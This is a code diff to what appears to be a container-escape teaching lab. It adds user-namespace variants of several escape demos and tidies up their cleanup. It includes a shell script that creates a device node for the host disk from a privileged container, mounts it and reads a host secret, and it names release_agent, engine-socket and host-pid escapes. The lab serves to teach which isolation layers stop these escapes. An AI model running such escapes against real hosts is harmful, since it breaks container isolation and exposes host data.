@@ -27,17 +27,20 @@ never on the learner's machine: its disk holds ``/etc/lab-host-secret``,
 a random line, and an escape has worked when the container prints it. The
 same attack script runs in the same VM as several containers: once with the
 misconfiguration, once with ``labcore run``'s defaults, and with one layer
-of the default removed, which shows which layer alone is enough to stop it.
-The containers are started inside the VM by ``escapeguest.py``.
+of the default removed, which shows which layer alone is enough to stop it;
+and once more misconfigured but inside a user namespace (``IN_USERNS``),
+whose capabilities count in that namespace only. The containers are
+started inside the VM by ``escapeguest.py``.
 
 Booting the VM under software emulation takes longer than the containers,
 so several demos may share one host: ``with EscapeHost() as host:
 host.demonstrate("disk"); host.demonstrate("pid")``. Each demo still gets
-fresh containers, and each escape undoes in the guest what it left
+fresh containers (each with a /dev of its own, where the disk escape
+makes its device node), and each escape undoes in the guest what it left
 behind (``Escape.undo``: a file holding the secret, a cgroup hierarchy
-with a release_agent, the host disk's device node, the engine daemon, an
-AppArmor profile), so no later demo can read the secret from an earlier
-one's leftovers, nor be stopped by one. ``demonstrate(ID)`` alone boots a
+with a release_agent, the engine daemon, an AppArmor profile), so no later
+demo can read the secret from an earlier one's leftovers, nor be stopped
+by one. ``demonstrate(ID)`` alone boots a
 host for that one escape and stops it.
 
 The attack scripts below are what an attacker types in the container; the
@@ -63,10 +66,9 @@ DISK_SH = """#!/bin/sh
 set -- $(grep ' nvme0n1$' /proc/partitions)
 echo "the host's disk: $4, block device $1:$2"
 # A privileged container may create any device node (CAP_MKNOD) and mount (CAP_SYS_ADMIN).
-rm -f /tmp/hostdisk
-mknod /tmp/hostdisk b "$1" "$2" || exit 1
+mknod /dev/hostdisk b "$1" "$2" || exit 1
 mkdir -p /mnt/host
-mount -t ext4 /tmp/hostdisk /mnt/host || exit 1
+mount -t ext4 /dev/hostdisk /mnt/host || exit 1
 cat /mnt/host/etc/lab-host-secret
 """
 
@@ -133,9 +135,9 @@ echo "exec lab-no-mount" > /proc/self/attr/apparmor/exec || exit 1
 exec sh /escape/disk.sh
 """
 
-# The privileged run leaves the host disk's device node in the rootfs all containers share: any later
-# container could read the raw disk through it, mount(2) or not.
-DISK_UNDO = f"rm -f {ROOTFS}/tmp/hostdisk"
+# The same misconfiguration with one layer added: a user namespace whose root is the host's uid 100000
+# (labcore run --rootless; Docker's --userns-remap). Its capabilities count inside that namespace only.
+IN_USERNS = "same misconfiguration, in a user namespace"
 
 SCRIPTS = {"confined.sh": CONFINED_SH, "disk.sh": DISK_SH, "engine_client.py": SOCKET_PY, "release_agent.sh": RELEASE_AGENT_SH, "pid.sh": PID_SH}
 ENGINE_SOCKET = "/run/lab-engine.sock"
@@ -164,13 +166,14 @@ ESCAPES = {e.id: e for e in (
     Escape("disk", "A --privileged container mounts the host's disk", ("sh", "/escape/disk.sh"),
            (("misconfigured: --privileged", ("--privileged",), True),
             ("default", (), False),
-            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False)),
+            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False),
+            (IN_USERNS, ("--privileged", "--rootless"), False)),
            "seccomp refuses mount(2) to a container without CAP_SYS_ADMIN (EPERM before any check); "
-           "with the filter off, the capability check refuses it too: CAP_SYS_ADMIN is not among the 14",
-           undo=DISK_UNDO),
+           "with the filter off, the capability check refuses it too: CAP_SYS_ADMIN is not among the 14"),
     Escape("socket", "The engine's socket mounted into a container", ("python3", "/escape/engine_client.py"),
            (("misconfigured: socket mounted, default profile", ("-v", f"{ENGINE_SOCKET}:/run/engine.sock"), True),
-            ("default", (), False)),
+            ("default", (), False),
+            (IN_USERNS, ("-v", f"{ENGINE_SOCKET}:/run/engine.sock", "--rootless"), False)),
            "the mount namespace: a default container has nothing of the host mounted, so there is no socket "
            "to connect to. No capability, seccomp rule or masked path helps once it is mounted: the "
            "misconfigured run had all of them",
@@ -184,7 +187,8 @@ ESCAPES = {e.id: e for e in (
     Escape("release_agent", "CAP_SYS_ADMIN and cgroup v1's release_agent", ("sh", "/escape/release_agent.sh"),
            (("misconfigured: --cap-add SYS_ADMIN", ("--cap-add", "SYS_ADMIN"), True),
             ("default", (), False),
-            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False)),
+            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False),
+            (IN_USERNS, ("--cap-add", "SYS_ADMIN", "--rootless"), False)),
            "seccomp refuses mount(2) without CAP_SYS_ADMIN, and the capability check refuses it even with "
            "the filter off: no cgroup hierarchy can be mounted, so there is no release_agent to write",
            # /escape/out holds the secret, in the rootfs every later container shares: delete it (and the
@@ -201,11 +205,12 @@ ESCAPES = {e.id: e for e in (
            setup="apparmor_parser -r /etc/lab-apparmor/lab-no-mount && cat /sys/kernel/security/apparmor/profiles",
            after="dmesg | grep 'apparmor=\"DENIED\"' | sed 's/^\\[[ 0-9.]*\\] //'",
            # unload the profile and clear the kernel log, so a later demo's denial is its own
-           undo="apparmor_parser -R /etc/lab-apparmor/lab-no-mount && dmesg -c >/dev/null; " + DISK_UNDO),
+           undo="apparmor_parser -R /etc/lab-apparmor/lab-no-mount && dmesg -c >/dev/null"),
     Escape("pid", "The host's pid namespace with CAP_SYS_PTRACE", ("sh", "/escape/pid.sh"),
            (("misconfigured: --pid host --cap-add SYS_PTRACE", ("--pid", "host", "--cap-add", "SYS_PTRACE"), True),
             ("default", (), False),
-            ("--pid host alone", ("--pid", "host"), False)),
+            ("--pid host alone", ("--pid", "host"), False),
+            (IN_USERNS, ("--pid", "host", "--cap-add", "SYS_PTRACE", "--rootless"), False)),
            "the pid namespace: no host process is visible at all. With --pid host alone, the capability "
            "check stops it: following /proc/PID/root of a process whose capabilities exceed ours "
            "needs CAP_SYS_PTRACE (ptrace access mode checks, ptrace(2))"),
